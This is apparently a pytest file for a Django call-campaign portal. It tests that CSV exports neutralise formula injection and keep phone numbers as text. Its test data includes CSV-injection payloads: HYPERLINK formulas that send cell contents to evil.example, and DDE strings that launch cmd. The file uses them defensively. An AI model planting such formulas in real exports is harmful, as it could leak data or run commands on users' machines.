"""CSV downloads are safe to open in a spreadsheet: formulas neutralised (OWASP), phone numbers
kept as text. The call export, a campaign's results and its rows set aside, through the real
pages, on SQLite and on PostgreSQL."""

import csv
import io
import re
from datetime import UTC, datetime, timedelta
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from calls.models import MASK, CallLog, Campaign, IvrFlow, UserPreference
from tests.helpers.campaigns import post_then_import
from tests.helpers.portal import campaign_form, logged_in

# What a spreadsheet would run, one per character OWASP lists, and what the file must hold.
FORMULAS = [
    pytest.param('=HYPERLINK("http://evil.example/?"&A1,"Open")', id="equals"),
    pytest.param("+1+cmd|' /C calc'!A0", id="plus"),
    pytest.param("-2+3+cmd|' /C calc'!A0", id="minus"),
    pytest.param("@SUM(1+9)*cmd|' /C calc'!A0", id="at"),
    pytest.param("\t=1+1", id="tab"),
    pytest.param("\r=1+1", id="carriage return"),
]


# 13:00:04 UTC: 18:30:04 in Kolkata, 08:00:04 in New York (EST in November).
MOMENT = datetime(2026, 11, 27, 13, 0, 4, tzinfo=UTC)


def sent_call(**fields: object) -> CallLog:
    """A call that went to the provider: the call log (and its export) lists those."""
    return CallLog.objects.create(**{"submitted_at": MOMENT, **fields})


def download(client: Client, url: str, **query: str) -> list[list[str]]:
    response = client.get(url, query)
    assert response.status_code == 200 and response.streaming
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))


def exported(client: Client, **query: str) -> list[dict[str, str]]:
    header, *rows = download(client, "/calls/export.csv", **query)
    return [dict(zip(header, row, strict=True)) for row in rows]


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_from_the_provider_is_exported_as_inert_text(
    agent_client, bridge, sound, formula
):
    sent_call(bridge=bridge, to="918867135123", audio=sound, status="failed", error=formula)

    (row,) = exported(agent_client)

    assert row["error"] == "'" + formula


def test_every_text_column_of_the_call_export_is_neutralised(
    agent_client, bridge, sound, django_user_model
):
    placed_by = django_user_model.objects.create_user(username="+evil@example")
    sent_call(
        bridge=bridge,
        to="918867135123",
        audio=sound,
        status="failed",
        provider_status="=1+1",
        provider_id="@A1",
        error="-1",
        created_by=placed_by,
    )

    (row,) = exported(agent_client)

    assert (row["provider_status"], row["provider_id"], row["error"], row["placed_by"]) == (
        "'=1+1",
        "'@A1",
        "'-1",
        "'+evil@example",
    )


def test_plain_values_are_exported_unchanged(agent_client, bridge, sound):
    call = sent_call(
        bridge=bridge,
        to="918867135123",
        audio=sound,
        status="busy",
        error="Busy - try later",
        duration=0,
        attempts=2,
    )

    (row,) = exported(agent_client)

    assert row["id"] == str(call.pk)
    assert row["error"] == "Busy - try later"
    assert (row["status"], row["duration"], row["attempts"]) == ("busy", "0", "2")


def test_phone_numbers_are_written_so_a_spreadsheet_keeps_them_as_text(agent_client, bridge, sound):
    sent_call(bridge=bridge, to="918867135123", audio=sound)

    (row,) = exported(agent_client)

    # The text marker: not 9.18867E+11 in Excel or LibreOffice, and not a number at all.
    assert row["to"] == "'918867135123"
    assert row["bridge"] == "'918068287602"
    with pytest.raises(ValueError):
        float(row["to"])


def test_a_campaigns_results_export_is_neutralised_and_keeps_numbers_as_text(
    supervisor, bridge, sound
):
    campaign = Campaign.objects.create(name="November", bridge=bridge, audio=sound, pace=2)
    sent_call(bridge=bridge, to="918867135124", audio=sound, campaign=campaign, error="@cmd")
    sent_call(bridge=bridge, to="918867135123", audio=sound, error="=elsewhere")

    rows = exported(logged_in(supervisor), campaign=str(campaign.pk))

    assert [(r["to"], r["error"], r["campaign_id"]) for r in rows] == [
        ("'918867135124", "'@cmd", str(campaign.pk))
    ]


# --- opening cleanly in a spreadsheet -------------------------------------------------------------


def test_the_call_export_has_the_documented_columns_with_times_in_the_portals_zone(
    agent_client, bridge, sound
):
    sent_call(bridge=bridge, to="918867135123", audio=sound)

    header, _ = download(agent_client, "/calls/export.csv")

    assert header == [
        "id",
        "created_at (Asia/Kolkata)",
        "to",
        "bridge",
        "flow",
        "audio",
        "status",
        "provider_status",
        "provider_id",
        "http_status",
        "cost (credits)",
        "started_at (Asia/Kolkata)",
        "ended_at (Asia/Kolkata)",
        "duration",
        "attempts",
        "error",
        "campaign_id",
        "placed_by",
    ]


def test_times_are_exported_in_the_users_zone_and_named_in_the_header(agent, bridge, sound):
    sent_call(
        bridge=bridge,
        to="918867135123",
        audio=sound,
        created_at=MOMENT,
        started_at=MOMENT + timedelta(seconds=10),
        ended_at=MOMENT + timedelta(seconds=40),
    )
    UserPreference.objects.create(user=agent, time_zone="America/New_York")

    (row,) = exported(logged_in(agent))

    assert row["created_at (America/New_York)"] == "2026-11-27 08:00:04"
    assert row["started_at (America/New_York)"] == "2026-11-27 08:00:14"
    assert row["ended_at (America/New_York)"] == "2026-11-27 08:00:44"


def test_flow_and_audio_are_exported_by_name(agent_client, bridge, otp_flow, sound):
    sent_call(bridge=bridge, to="918867135123", audio=sound)
    sent_call(bridge=bridge, to="918867135124", flow=otp_flow)

    flow_call, audio_call = exported(agent_client)

    assert (flow_call["flow"], flow_call["audio"]) == ("Login OTP", "")
    assert (audio_call["flow"], audio_call["audio"]) == ("", "Reminder")


def test_each_variable_of_the_exported_calls_has_its_own_column_secrets_masked(
    agent_client, bridge, otp_flow, sound
):
    greeting = IvrFlow.objects.create(flow_id="25", name="Greeting", template="Hi {city}")
    CallLog.prepare(
        submitted_at=MOMENT,
        bridge=bridge,
        to="918867135123",
        flow=otp_flow,
        variables={"Name": "Asha", "otp": "4829"},
    ).save()
    CallLog.prepare(
        submitted_at=MOMENT,
        bridge=bridge,
        to="918867135124",
        flow=greeting,
        variables={"city": "=Pune"},
    ).save()
    sent_call(bridge=bridge, to="918867135125", audio=sound)

    header, *rows = download(agent_client, "/calls/export.csv")

    variables = ["variables[city]", "variables[Name]", "variables[otp]"]
    assert header[header.index("audio") + 1 : header.index("status")] == variables
    by_number = {row[2]: dict(zip(header, row, strict=True)) for row in rows}
    assert [by_number["'918867135123"][v] for v in variables] == ["", "Asha", MASK]
    assert [by_number["'918867135124"][v] for v in variables] == ["'=Pune", "", ""]
    assert [by_number["'918867135125"][v] for v in variables] == ["", "", ""]


def test_a_campaigns_export_has_its_flows_variables_and_is_named_after_it(
    supervisor, bridge, otp_flow
):
    campaign = Campaign.objects.create(
        name="November reminders!", bridge=bridge, flow=otp_flow, pace=2
    )
    CallLog.prepare(
        submitted_at=MOMENT,
        bridge=bridge,
        to="918867135123",
        flow=otp_flow,
        campaign=campaign,
        variables={"Name": "Asha", "otp": "4829"},
    ).save()
    client = logged_in(supervisor)

    response = client.get("/calls/export.csv", {"campaign": campaign.pk})
    header, row = list(
        csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig")))
    )

    assert re.fullmatch(
        rf'attachment; filename="campaign-{campaign.pk}-november-reminders-calls-\d{{8}}-\d{{4}}\.csv"',
        response["Content-Disposition"],
    )
    assert [
        cell for name, cell in zip(header, row, strict=True) if name.startswith("variables[")
    ] == [
        "Asha",
        MASK,
    ]


def test_the_call_log_export_is_named_for_what_it_holds(agent_client, bridge, sound):
    response = agent_client.get("/calls/export.csv")

    assert re.fullmatch(
        r'attachment; filename="calls-\d{8}-\d{4}\.csv"', response["Content-Disposition"]
    )


def test_the_cost_is_exported_in_credits_and_as_money_when_a_credit_has_a_price(
    settings, agent_client, bridge, sound
):
    settings.OBD_CURRENCY, settings.OBD_PRICE_PER_CREDIT = "INR", Decimal("0.45")
    sent_call(bridge=bridge, to="918867135123", audio=sound, cost=Decimal("2.5"))
    sent_call(bridge=bridge, to="918867135124", audio=sound)

    unknown, priced = exported(agent_client)  # newest first

    assert (unknown["cost (credits)"], unknown["cost (INR)"]) == ("", "")
    assert (priced["cost (credits)"], priced["cost (INR)"]) == ("2.5", "1.13")


# --- the rows set aside of a campaign ---------------------------------------------------------


def new_audio_campaign(client: Client, bridge, sound, content: bytes) -> Campaign:
    form = campaign_form(bridge, None, content, audio=sound.pk)
    response = post_then_import(client, "/campaigns/new/", form)
    assert response.status_code == 302
    return Campaign.objects.get()


def test_the_set_aside_rows_file_neutralises_formulas_in_values_and_headers(
    supervisor, bridge, sound
):
    client = logged_in(supervisor)
    content = (
        b"number,Name,@city\n"
        b'12345,"=HYPERLINK(""http://evil.example"",""Open"")",-Goa\n'
        b"+91 98765,Asha,\tPune\n"
        b"918867135123,Ravi,Delhi\n"
    )
    campaign = new_audio_campaign(client, bridge, sound, content)

    rows = download(client, f"/campaigns/{campaign.pk}/set-aside.csv")

    assert rows[0] == ["number", "Name", "'@city", "reason"]
    assert [row[:3] for row in rows[1:]] == [
        ["'12345", '\'=HYPERLINK("http://evil.example","Open")', "'-Goa"],
        ["'+91 98765", "Asha", "Pune"],  # the upload trims the tab away
    ]
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r)


def test_a_neutralised_number_in_the_set_aside_rows_uploads_again_once_fixed(
    supervisor, bridge, sound
):
    client = logged_in(supervisor)
    campaign = new_audio_campaign(client, bridge, sound, b"number,Name\n+91 98765,Asha\n")
    rejected = b"".join(client.get(f"/campaigns/{campaign.pk}/set-aside.csv").streaming_content)
    assert b"'+91 98765," in rejected
    fixed = rejected.replace(b"'+91 98765,", b"'+91 98765 43210,")

    response = post_then_import(
        client,
        f"/campaigns/{campaign.pk}/upload/",
        {"csv_file": SimpleUploadedFile("fixed.csv", fixed, content_type="text/csv")},
    )

    assert response.status_code == 302
    assert list(campaign.calls.values_list("to", flat=True)) == ["919876543210"]


# --- the spreadsheet flavour ------------------------------------------------------------------


def raw_download(client: Client, url: str) -> bytes:
    response = client.get(url)
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def reads_as(user, flavour: str) -> Client:
    UserPreference.objects.update_or_create(user=user, defaults={"export_flavour": flavour})
    return logged_in(user)


def test_by_default_an_export_is_what_excel_on_windows_reads_utf8_with_a_byte_order_mark(
    agent_client, bridge, sound
):
    sent_call(bridge=bridge, to="918867135123", audio=sound, variables={"Name": "दीपा அஷா"})

    body = raw_download(agent_client, "/calls/export.csv")

    assert body.startswith(b"\xef\xbb\xbfid,created_at")
    assert body.count(b"\xef\xbb\xbf") == 1  # once, before the header: not in each chunk
    header, row = csv.reader(io.StringIO(body.decode("utf-8-sig")))
    cells = dict(zip(header, row, strict=True))
    assert (cells["variables[Name]"], cells["to"]) == ("दीपा அஷா", "'918867135123")


def test_a_user_whose_excel_separates_lists_with_semicolons_gets_semicolons(agent, bridge, sound):
    sent_call(bridge=bridge, to="918867135123", audio=sound, error="=1+1; then, this")
    client = reads_as(agent, "excel_semicolon")

    body = raw_download(client, "/calls/export.csv").decode("utf-8")

    assert body.startswith("\ufeffid;created_at (Asia/Kolkata);to;")
    header, row = csv.reader(io.StringIO(body.removeprefix("\ufeff")), delimiter=";")
    cells = dict(zip(header, row, strict=True))
    assert cells["error"] == "'=1+1; then, this"  # quoted whole, and still neutralised
    assert cells["to"] == "'918867135123"


def test_where_lists_take_semicolons_costs_take_a_decimal_comma(settings, agent, bridge, sound):
    settings.OBD_CURRENCY, settings.OBD_PRICE_PER_CREDIT = "INR", Decimal("0.45")
    sent_call(bridge=bridge, to="918867135123", audio=sound, cost=Decimal("2.5000"), duration=42)
    client = reads_as(agent, "excel_semicolon")

    body = raw_download(client, "/calls/export.csv").decode("utf-8-sig")

    header, row = csv.reader(io.StringIO(body), delimiter=";")
    cells = dict(zip(header, row, strict=True))
    assert (cells["cost (credits)"], cells["cost (INR)"]) == ("2,5", "1,13")
    assert (cells["duration"], cells["id"]) == ("42", str(CallLog.objects.get().pk))


def test_a_user_who_asked_for_plain_csv_gets_no_byte_order_mark(agent, bridge, sound):
    sent_call(bridge=bridge, to="918867135123", audio=sound)

    body = raw_download(reads_as(agent, "plain"), "/calls/export.csv")

    assert body.startswith(b"id,created_at (Asia/Kolkata),to,")


def test_the_set_aside_rows_file_is_in_the_users_flavour_and_uploads_again(
    supervisor, bridge, sound
):
    client = reads_as(supervisor, "excel_semicolon")
    content = "number;Name\n+91 98765;அஷா\n".encode()
    campaign = new_audio_campaign(client, bridge, sound, content)

    rejected = raw_download(client, f"/campaigns/{campaign.pk}/set-aside.csv")

    assert rejected.decode("utf-8").startswith("\ufeffnumber;Name;reason\r\n'+91 98765;அஷா;")
    fixed = rejected.replace(b"'+91 98765;", b"'+91 98765 43210;")
    response = post_then_import(
        client,
        f"/campaigns/{campaign.pk}/upload/",
        {"csv_file": SimpleUploadedFile("fixed.csv", fixed, content_type="text/csv")},
    )
    assert response.status_code == 302
    assert list(campaign.calls.values_list("to", flat=True)) == ["919876543210"]


def test_a_user_chooses_their_flavour_on_the_preferences_page(agent_client, agent):
    page = agent_client.get("/preferences/").text
    assert 'value="excel" id="id_export_flavour_0" required checked>' in page

    response = agent_client.post(
        "/preferences/", {"time_zone": "", "export_flavour": "excel_semicolon"}, follow=True
    )

    assert UserPreference.objects.get(user=agent).export_flavour == "excel_semicolon"
    assert "exports are for Excel where lists are separated by ;" in response.text
    refused = agent_client.post("/preferences/", {"time_zone": "", "export_flavour": "xlsx\x00"})
    assert refused.status_code == 200 and "Select a valid choice" in refused.text
